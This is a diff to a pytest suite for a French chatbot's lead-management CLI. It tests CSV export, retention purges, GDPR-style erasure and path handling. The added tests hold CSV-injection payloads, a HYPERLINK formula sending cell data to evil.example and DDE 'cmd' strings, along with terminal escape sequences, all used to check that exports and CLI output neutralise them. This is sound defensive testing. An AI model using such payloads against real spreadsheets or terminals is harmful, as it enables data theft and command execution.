@@ -407,7 +407,7 @@ def test_a_failing_retention_purge_does_not_stop_the_notices(run, two_leads, mai
     monkeypatch.setattr(LeadService, "purge", broken)
     code, out, err = run_worker_until(run, lambda: len(list(mail_dir.glob("*.eml"))) == 2)
     assert code == 0 and "Notifications : 2 envoyée(s)." in out
-    assert err.count("conservation : effacement en échec (OperationalError) ; nouvel essai dans 1 h") == 1
+    assert err.count("conservation (leads) : effacement en échec (OperationalError) ; nouvel essai dans 1 h") == 1
 
 
 @pytest.mark.parametrize("how", ["option", "env"])
@@ -518,3 +518,165 @@ def test_merge_by_hand_from_the_cli_is_recorded_in_the_lead(run, service, sub):
     assert run("leads", "merge", str(first), str(first))[0] == 2
     code, _, err = run("leads", "merge", "999", str(first))
     assert code == 1 and "lead n°999 introuvable" in err
+
+
+HOSTILE_CELLS = {
+    "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
+    "company": "+cmd|' /C calc'!A0",
+    "need": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_export_csv_neutralises_formulas_for_a_spreadsheet(run, service, sub):
+    """OWASP CSV injection: a cell starting with = + - @ tab or CR is prefixed with a quote."""
+    service.submit(sub(**HOSTILE_CELLS))
+    service.submit(sub(sender_id="conv-tab", name="\tTabulé", company="-2+3", email=None))
+    code, out, _ = run("leads", "export", "--format", "csv")
+    assert code == 0
+    rows = list(csv.DictReader(io.StringIO(out)))  # a real CSV reader, quoting and all
+    hostile = next(r for r in rows if r["sender_id"] == "conv-1")
+    for key, value in HOSTILE_CELLS.items():
+        assert hostile[key] == "'" + value
+    assert hostile["phone"] == "'+33634223171"  # a phone number is text in a spreadsheet too
+    assert hostile["email"] == "jeanne.martin@menuiserie-martin.fr"  # ordinary cells untouched
+    other = next(r for r in rows if r["sender_id"] == "conv-tab")
+    assert other["company"] == "'-2+3"
+    assert not other["name"].startswith(("\t", "=")) and "Tabulé" in other["name"]
+    for row in rows:
+        for value in row.values():
+            assert not value or value[0] not in "=+-@\t\r"
+    # The JSON export (the contract) keeps the values as stored.
+    data = json.loads(run("leads", "export", "--format", "json")[1])
+    assert next(d for d in data if d["sender_id"] == "conv-1")["name"] == HOSTILE_CELLS["name"]
+
+
+def test_terminal_escapes_never_reach_the_cli(run, service, tracker, sub):
+    """ANSI/OSC escapes typed in chat are stripped when stored and when printed."""
+    tracker.conversation("conv-1", [("\x1b]8;;http://evil.example\x07lien\x1b]8;;\x07 \x1b[2J", "Bien reçu")])
+    lead = service.submit(sub(
+        name="Jeanne \x1b[31mMartin\x1b[0m", company="Acme\x9b2J", need="Ligne 1\r\nLigne\x07 2\x00",
+    ))
+    code, out, _ = run("leads", "list")
+    assert code == 0 and "\x1b" not in out and "\x9b" not in out and "Jeanne [31mMartin[0m" in out
+    code, out, _ = run("leads", "show", str(lead))
+    assert code == 0
+    assert not any(ch in out for ch in "\x1b\x9b\x07\x00\r")
+    assert "Ligne 1\nLigne 2" in out  # the need keeps its lines
+    record = json.loads(run("leads", "export", "--format", "json")[1])[0]
+    assert record["name"] == "Jeanne [31mMartin[0m" and record["company"] == "Acme2J"
+
+
+# ---------------------------------------------------------------------- conversations' retention
+def test_conversations_without_a_lead_are_erased_after_their_retention(run, two_leads, tracker):
+    tracker.clock = time.time()  # a conversation of today, without a lead: kept
+    tracker.conversation("fresh", [("Je découvre le site", "Bienvenue !")])
+    code, out, _ = run("conversations", "purge", "--older-than", "30d", "--dry-run")
+    assert code == 0 and "1 conversation(s) sans lead seraient effacées" in out
+    assert tracker.count("someone-else") > 0
+    code, out, _ = run("conversations", "purge", "--older-than", "30d")
+    assert code == 0 and "1 conversation(s) sans lead effacée(s)" in out
+    assert tracker.count("someone-else") == 0
+    assert tracker.count("fresh") > 0 and tracker.count("conv-1") > 0 and tracker.count("conv-9") > 0
+    code, out, _ = run("conversations", "purge", "--older-than", "30d")
+    assert code == 0 and "Aucune conversation sans lead inactive depuis le" in out
+
+
+def abandoned_form(tracker, sender_id: str, email: str) -> None:
+    tracker.conversation(sender_id, [("Bonjour", "Bonjour !")])
+    tracker.add(sender_id, "active_loop", name="contact_form")
+    tracker.add(sender_id, "user", f"mon mail c'est {email}", intent_name="inform")
+    tracker.add(sender_id, "slot", name="contact_email", value=email)
+    tracker.add(sender_id, "slot", name="coaching_step", value=3)
+
+
+def test_an_abandoned_contact_form_is_redacted_once_expired(service, tracker, sub):
+    from bot.leads.transcript import read_transcript
+
+    abandoned_form(tracker, "abandon", "karim@example.org")
+    abandoned_form(tracker, "conv-1", "jeanne.martin@menuiserie-martin.fr")  # consented: a lead
+    service.submit(sub())
+    tracker.clock = time.time()
+    abandoned_form(tracker, "en-cours", "lea@example.org")  # still within its 30 minutes
+    cutoff = utcnow() - dt.timedelta(minutes=30)
+    assert service.forget_abandoned_forms(cutoff) == 1
+    with tracker.engine.connect() as connection:
+        rows = connection.execute(sa.text("SELECT sender_id, data FROM events")).all()
+    dump = {s: " ".join(d for sid, d in rows if sid == s) for s in ("abandon", "conv-1", "en-cours")}
+    assert "karim" not in dump["abandon"] and "Bonjour" in dump["abandon"]
+    assert '"coaching_step", "value": 3' in dump["abandon"]  # only the form's personal data
+    assert "jeanne.martin" in dump["conv-1"] and "lea@example.org" in dump["en-cours"]
+    assert service.forget_abandoned_forms(cutoff) == 0  # done once
+
+
+def test_outbox_worker_purges_conversations_and_abandoned_forms(run, two_leads, tracker, monkeypatch):
+    abandoned_form(tracker, "abandon", "karim@example.org")
+    monkeypatch.delenv("CONVERSATIONS_RETENTION", raising=False)
+    code, out, _ = run_worker_until(run, lambda: tracker.count("abandon") == 0)
+    assert code == 0
+    assert "Conversations sans lead : effacées après 30 jours d’inactivité." in out
+    assert "2 conversation(s) sans lead" in out  # someone-else and abandon
+    assert tracker.count("someone-else") == 0 and tracker.count("conv-1") > 0
+    monkeypatch.setenv("CONVERSATIONS_RETENTION", "douze")
+    code, _, err = run("outbox", "worker", "--interval", "1")
+    assert code == 2 and "CONVERSATIONS_RETENTION" in err
+
+
+# ---------------------------------------------------------------------- paths and stores
+def test_relative_paths_are_taken_from_the_project_root(monkeypatch, tmp_path):
+    from bot.leads.db import leads_db_url
+    from bot.leads.notifier import NotifierConfig
+    from bot.leads.spool import spool_dir
+    from bot.leads.transcript import tracker_db_url
+    from bot.paths import PROJECT_ROOT
+
+    monkeypatch.chdir(tmp_path)
+    for name in ("LEADS_DB_URL", "TRACKER_DB_URL", "LEADS_MAIL_DIR", "LEADS_SPOOL_DIR", "COACH_HOME"):
+        monkeypatch.delenv(name, raising=False)
+    assert leads_db_url() == f"sqlite:///{PROJECT_ROOT}/var/leads.sqlite3"
+    assert tracker_db_url() == f"sqlite:///{PROJECT_ROOT}/var/tracker.sqlite3"
+    assert NotifierConfig.from_env().mail_dir == PROJECT_ROOT / "var" / "mail"
+    assert spool_dir() == PROJECT_ROOT / "var" / "spool"
+    monkeypatch.setenv("COACH_HOME", str(tmp_path / "site"))
+    monkeypatch.setenv("LEADS_DB_URL", "sqlite:///data/leads.db")
+    assert leads_db_url() == f"sqlite:///{tmp_path}/site/data/leads.db"
+    monkeypatch.setenv("LEADS_DB_URL", "postgresql+psycopg2://coach@db/leads")
+    assert leads_db_url() == "postgresql+psycopg2://coach@db/leads"
+
+
+def test_erase_from_another_directory_clears_the_project_stores(monkeypatch, tmp_path, capsys, sub):
+    """`cd /tmp && sip-coach leads erase --email …` finds the same files as `make run`."""
+    from bot.leads.service import LeadService
+    from tests.leads.conftest import Tracker
+
+    home = tmp_path / "projet"
+    for name in ("LEADS_DB_URL", "TRACKER_DB_URL", "LEADS_MAIL_DIR", "LEADS_SPOOL_DIR"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv("COACH_HOME", str(home))
+    monkeypatch.setenv("LEADS_DELIVER_ON_SUBMIT", "true")
+    monkeypatch.chdir(home.parent)
+    assert cli.main(["db", "upgrade"]) == 0
+    tracker = Tracker(f"sqlite:///{home}/var/tracker.sqlite3")
+    tracker.conversation("conv-1", [("Je suis Jeanne", "Enchanté !")])
+    svc = LeadService.from_env()
+    svc.submit(sub())
+    svc.close()
+    assert list((home / "var" / "mail").glob("*.eml"))
+    elsewhere = tmp_path / "ailleurs"
+    elsewhere.mkdir()
+    monkeypatch.chdir(elsewhere)
+    capsys.readouterr()
+    code = cli.main(["leads", "erase", "--email", "jeanne.martin@menuiserie-martin.fr"])
+    out = capsys.readouterr().out
+    assert code == 0 and "1 conversation(s) (3 événement(s)), 1 e-mail(s)" in out
+    assert tracker.count("conv-1") == 0 and not list((home / "var" / "mail").glob("*.eml"))
+    assert not (elsewhere / "var").exists()
+    tracker.engine.dispose()
+
+
+def test_erase_fails_loudly_when_the_conversations_cannot_be_reached(run, two_leads, monkeypatch):
+    monkeypatch.setenv("TRACKER_DB_URL", "postgresql+psycopg2://nobody@127.0.0.1:1/tracker")
+    code, out, err = run("leads", "erase", "--sender", "conv-2")
+    assert code == 1
+    assert "base des conversations inaccessible (postgresql+psycopg2://nobody@127.0.0.1:1/tracker)" in err
+    assert "rien n’y a été effacé" in err
+    assert len(json.loads(run("leads", "export")[1])) == 2  # the lead is kept: run it again later
